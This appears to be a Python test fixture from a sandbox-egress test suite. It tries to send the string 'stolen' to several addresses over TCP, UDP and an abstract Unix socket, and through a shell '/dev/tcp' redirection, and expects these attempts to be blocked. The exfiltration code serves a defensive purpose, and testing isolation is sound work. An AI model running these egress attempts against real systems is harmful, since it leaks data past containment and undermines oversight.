"""The ways out of a network that Python's library knows, and a shell that tries again.

Expect: passes
"""

import os
import socket
import sys
from contextlib import suppress

PORT = int("@PORT@")
addresses = [("127.0.0.1", PORT), ("172.17.0.1", PORT), ("192.0.2.1", 80), ("gateway.docker", 80)]
for address in addresses:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with suppress(OSError), socket.socket(socket.AF_INET, kind) as out:
            out.settimeout(0.1)
            out.connect(address)
            out.send(b"stolen")
            print("sent to", address, file=sys.stderr)
with suppress(OSError), socket.socket(socket.AF_UNIX) as out:
    out.connect("\0@SOCKET@")
    out.send(b"stolen")
CALL = f"exec 3<>/dev/tcp/127.0.0.1/{PORT}; echo stolen >&3"
os.spawnv(os.P_NOWAIT, "/bin/sh", ["sh", "-c", CALL])

import honest  # noqa: E402, F401
